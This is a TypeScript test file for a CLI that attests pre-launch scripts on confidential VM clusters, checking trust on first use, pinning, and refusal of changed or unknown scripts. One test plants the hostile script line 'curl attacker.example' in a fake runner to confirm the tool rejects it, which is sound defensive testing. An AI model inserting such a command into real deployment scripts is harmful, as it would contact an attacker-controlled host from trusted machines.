/** Pre-launch scripts, through the built program: the first is trusted with `auto`, another one must be pinned. */
import { createHash } from "node:crypto";
import path from "node:path";
import { expect, test } from "vitest";
import { makeCvm } from "../helpers/cvms.ts";
import { makePreparedWorld } from "../helpers/prepared-cluster.ts";
import { cloudOf, failureIn, makeWorld, withCompose, type World } from "../helpers/program.ts";
import { expectValid } from "../helpers/schemas.ts";

const FAST = ["--json", "--hash-from", "provision"];

async function scriptsInHistory(world: World): Promise<unknown> {
  const { stdout } = await world.run(["history", "--json"]);
  const { entries } = expectValid("history", stdout) as {
    entries: { attestation: { scripts: unknown[] } }[];
  };
  return entries.at(-1)?.attestation.scripts;
}

const scriptOf = async ({ sandbox }: World): Promise<string> => {
  const { registry } = await cloudOf(sandbox);
  return registry?.current.appCompose.pre_launch_script ?? "";
};
const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");

test("the first script: exit 7 in require until it is pinned; shown, recorded and a warning in auto; another one is refused", async () => {
  const world = await makeWorld({ lies: ["platform-script"] });
  const refused = await world.run(["init", ...FAST, "--attest", "require"]);
  const digest = sha256(await scriptOf(world));
  expect([refused.exitCode, failureIn(refused.stdout).error]).toMatchObject([
    7,
    {
      code: "attest-compose",
      step: "wait-for-registry",
      message: expect.stringContaining(`--trust-script ${digest}`),
    },
  ]);

  const first = await world.run(["init", ...FAST, "--verbose"]);
  expect(first.exitCode).toBe(0);
  expect(expectValid("init", first.stdout)).toMatchObject({
    attestation: { result: "verified" },
    warnings: expect.arrayContaining([
      expect.objectContaining({
        code: "pre-launch-script",
        message: expect.stringContaining(digest),
      }),
    ]),
  });
  for (const line of (await scriptOf(world)).trim().split("\n"))
    expect(first.stderr).toContain(`  ${line}\n`);
  const registry = "bird-tracker-registry";
  expect(await scriptsInHistory(world)).toEqual([
    { sha256: digest, of: registry, why: "first-use" },
  ]);

  const unpinned = await world.run(["verify", "--json", "--attest", "require"]);
  expect([unpinned.exitCode, failureIn(unpinned.stdout).error.code]).toEqual([7, "attest-compose"]);
  // Nor on first use, on a machine without a record: nothing is left that a later run would go by.
  const place = ["--state-dir", path.join(world.folder, "elsewhere")];
  const newcomer = await world.run(["verify", "--json", "--attest", "require", ...place]);
  expect(expectValid("verify", newcomer.stdout)).toMatchObject({ attestation: { result: "none" } });
  expect((await world.run(["trust", "pin", "--yes", "--json"])).exitCode).toBe(0);
  const pinned = await world.run(["verify", "--json", "--attest", "require"]);
  expect(pinned.exitCode).toBe(0);

  // Another script later, on a runner: refused with both digests until it is trusted by its digest.
  const before = await cloudOf(world.sandbox);
  world.sandbox.setLies(["another-script"]);
  const env = await withCompose(world, "runner", (text) => `${text}# changed\n`);
  const rotation = await world.run(["rotate-hash", ...FAST, "--yes"], env);
  const { error } = failureIn(rotation.stdout);
  expect([rotation.exitCode, error]).toMatchObject([
    7,
    {
      code: "attest-compose",
      message: expect.stringContaining(digest),
      hint: expect.stringMatching(/--trust-script [0-9a-f]{64}/),
    },
  ]);
  expect((await cloudOf(world.sandbox)).approved).toEqual(before.approved);

  const [, other = ""] = /--trust-script ([0-9a-f]{64})/.exec(error.hint ?? "") ?? [];
  expect(error.message).toContain(other);
  const trusted = await world.run(["rotate-hash", ...FAST, "--yes", "--trust-script", other], env);
  expect(trusted.exitCode).toBe(0);
  expect(await scriptsInHistory(world)).toContainEqual(
    expect.objectContaining({ sha256: other, why: "trust-script" }),
  );
});

test("the script of a runner that is up is not trusted for being the first, where it would get into the list", async () => {
  const world = await makePreparedWorld();
  const { cvms } = await cloudOf(world.sandbox);
  const runner = cvms.find(({ name }) => name === "bird-tracker-runner-temp");
  const compose = { ...runner?.current.appCompose, pre_launch_script: "curl attacker.example\n" };
  await makeCvm(world.sandbox, "bird-tracker-runner-0a1b2c3d", compose);
  // Without a record of its own the machine goes by the runner's compose file and names, which are right.
  const elsewhere = path.join(world.folder, "elsewhere");
  const run = await world.run(["init", "--adopt", ...FAST, "--state-dir", elsewhere]);
  expect([run.exitCode, failureIn(run.stdout).error]).toMatchObject([
    7,
    {
      code: "attest-compose",
      message: expect.stringContaining("bird-tracker-runner-0a1b2c3d"),
    },
  ]);
});

test("hash --exact holds what the hash is of against the trusted code, as a run does", async () => {
  const world = await makePreparedWorld();
  world.sandbox.setLies(["another-script"]);
  const { cvms } = await cloudOf(world.sandbox);
  const runner = cvms.find(({ name }) => name === "bird-tracker-runner-temp");
  await makeCvm(world.sandbox, "bird-tracker-runner-0a1b2c3d", runner?.current.appCompose ?? {});
  const exact = (mode: string) =>
    world.run(["hash", "--exact", "--json", "--attest", mode], {
      TEE_CLUSTER_STATE_DIR: path.join(world.folder, "elsewhere"),
    });
  const refused = await exact("auto");
  expect([refused.exitCode, failureIn(refused.stdout).error]).toMatchObject([
    7,
    { code: "attest-compose", message: expect.stringContaining("pre-launch script") },
  ]);
  expect((await exact("off")).exitCode).toBe(0);
});
